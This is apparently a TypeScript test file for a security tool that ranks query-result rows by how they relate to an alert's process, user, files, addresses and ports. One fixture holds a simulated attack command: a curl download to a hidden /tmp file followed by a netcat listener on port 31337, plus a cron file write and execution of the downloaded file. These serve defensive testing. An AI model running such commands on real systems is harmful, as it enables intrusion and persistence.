import { expect, test } from 'vitest';
import type { ResultTable } from '../result_table';
import { toSampleStory, toStoryProcess, toStoryTree } from '../../../test/browser_app/sample_story';
import { toConcernFacts, toFactsElsewhere } from './concern_facts';
import { rankRows } from './rank_rows';

const toTable = (names: readonly string[], ...rows: readonly string[][]): ResultTable => ({
  columns: names.map((name) => ({ name, type: 'text' })),
  rows,
});

const FACTS = toConcernFacts(
  {
    process: { pid: 700, executable: '/usr/bin/dash', args: ['sh', '/tmp/x.sh'] },
    user: { id: '33', name: 'www-data' },
  },
  undefined
);

test('puts the alert’s process and all it started first, and kernel threads last', () => {
  const table = toTable(
    ['pid', 'parent'],
    ['1', '0'],
    ['2', '0'],
    ['9', '2'],
    ['800', '1'],
    ['702', '701'],
    ['701', '700'],
    ['700', '650']
  );
  expect(rankRows(table, FACTS).map(({ cells, concerns }) => [cells[0], ...concerns])).toEqual([
    ['702', 'process'],
    ['701', 'process'],
    ['700', 'process'],
    ['1'],
    ['800'],
    ['2'],
    ['9'],
  ]);
});

test('puts what is new to the host before all that is the alert’s and old', () => {
  const table = toTable(['pid', 'parent'], ['1', ''], ['700', ''], ['2', ''], ['3', '700']);
  const [, , recent, unseen] = table.rows;
  const novelties = new Map([
    [recent ?? [], 'recent_listener' as const],
    [unseen ?? [], 'new_listener' as const],
  ]);
  const ranked = rankRows(table, FACTS, novelties);
  expect(ranked.map(({ cells, concerns }) => [cells[0], ...concerns])).toEqual([
    ['3', 'new_listener', 'process'],
    ['2', 'recent_listener'],
    ['700', 'process'],
    ['1'],
  ]);
});

test('marks its files, its user and connections to public addresses', () => {
  const table = toTable(
    ['pid', 'path', 'remote_address', 'username'],
    ['1', '/etc/passwd', '', 'root'],
    ['2', '', '10.0.0.7', 'ann'],
    ['3', '/tmp/x.sh', '', 'root'],
    ['4', '', '203.0.114.9', 'www-data'],
    ['5', '', '127.0.0.1', 'www-data'],
    ['6', '', '0.0.0.0', 'ann']
  );
  const marked = rankRows(table, FACTS).filter(({ concerns }) => concerns.length > 0);
  expect(marked.map(({ cells, concerns }) => [cells[0], ...concerns])).toEqual([
    ['3', 'file'],
    ['4', 'public_address', 'user'],
    ['5', 'user'],
  ]);
});

test('takes nothing of root’s and no pid of init for the alert’s', () => {
  const facts = toConcernFacts({ process: { pid: 1 }, user: { id: '0', name: 'root' } }, undefined);
  const table = toTable(['pid', 'parent', 'uid'], ['1', '0', '0'], ['5', '1', '0']);
  expect(rankRows(table, facts).flatMap(({ concerns }) => concerns)).toEqual([]);
});

test('ends where rows say that processes started each other', () => {
  const table = toTable(['pid', 'parent'], ['700', '701'], ['701', '700']);
  expect(rankRows(table, FACTS)).toHaveLength(2);
});

test('marks what its tree wrote, where it called and which port it opened', () => {
  const story = toSampleStory({
    trees: [
      toStoryTree([
        toStoryProcess(0, ['sh', '-c', 'curl http://10.9.8.7/x -o /tmp/.u; nc -l -p 31337'], {
          isOfAlert: true,
          activities: [
            { kind: 'file', time: '', action: 'creation', target: '/etc/cron.d/upd' },
            {
              kind: 'network',
              time: '',
              action: 'connection_attempted',
              target: '[2001:db8::9]:443',
            },
          ],
        }),
      ]),
    ],
  });
  const facts = toConcernFacts({ process: { pid: 700 } }, story);
  const table = toTable(
    ['pid', 'path', 'command', 'remote_address', 'port'],
    ['1', '/etc/cron.d/upd', '', '', ''],
    ['2', '', '/bin/sh /tmp/.u --quiet', '', ''],
    ['3', '', '', '10.9.8.7', ''],
    ['4', '', '', '2001:db8::9', ''],
    ['5', '', '', '', '31337'],
    ['6', '/etc/cron.d/other', '/bin/sh /tmp/.u2', '10.9.8.70', '3133']
  );
  const marked = rankRows(table, facts).filter(({ concerns }) => concerns.length > 0);
  expect(marked.map(({ cells, concerns }) => [cells[0], ...concerns]).sort()).toEqual([
    ['1', 'file'],
    ['2', 'file'],
    ['3', 'address'],
    ['4', 'address'],
    ['5', 'port'],
  ]);
  // Nothing of a process id or a user says anything on another host; what the tree wrote and called does.
  expect(toFactsElsewhere(facts)).toMatchObject({ pids: [], ports: new Set(['31337']) });
});
